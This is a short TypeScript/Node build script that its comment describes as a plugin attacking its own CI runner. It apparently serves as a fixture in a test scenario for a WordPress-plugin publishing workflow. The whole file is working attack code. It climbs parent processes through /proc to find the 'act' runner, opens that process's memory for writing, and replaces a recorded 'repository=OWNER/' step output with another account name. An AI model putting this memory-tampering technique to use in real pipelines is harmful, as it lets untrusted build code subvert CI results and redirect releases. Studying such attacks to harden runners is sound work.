/**
 * A build script of a plugin that attacks its runner: in the memory of the program that runs the job, it changes what an earlier step
 * has found out. Here that program is `act`; on GitHub's runners it is a worker, to whose memory `sudo` leads. It stands alone, because a
 * scenario lays it into the repository of the plugin.
 */
import { openSync, readFileSync, readSync, writeSync } from 'node:fs';

/** As in `repository=OWNER/publish-wordpress-plugin`, a line that the step has written. */
const [name = '', account = '', other = ''] = process.argv.slice(2);
const [found, wanted] = [`${name}=${account}/`, `${name}=${other}/`].map((text) => Buffer.from(text));
if (found === undefined || found.length !== wanted?.length)
  throw new Error('Give two accounts of one length.');

let pid = process.ppid;
while (readFileSync(`/proc/${pid}/comm`, 'utf8') !== 'act\n')
  pid = Number(/^PPid:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);

const memory = openSync(`/proc/${pid}/mem`, 'r+');
const regions = readFileSync(`/proc/${pid}/maps`, 'utf8').matchAll(
  /^([0-9a-f]+)-([0-9a-f]+) rw-p \S+ 00:00 0 *$/gm,
);
let changed = 0;
for (const [, from = '', to = ''] of regions) {
  const start = parseInt(from, 16);
  const bytes = Buffer.alloc(parseInt(to, 16) - start);
  try {
    readSync(memory, bytes, 0, bytes.length, start);
  } catch {
    continue; // It is gone, or never was.
  }
  for (let at = bytes.indexOf(found); at >= 0; at = bytes.indexOf(found, at + 1)) {
    writeSync(memory, wanted, 0, wanted.length, start + at);
    changed += 1;
  }
}
console.log(`Changed ${changed} times: ${name}.`);
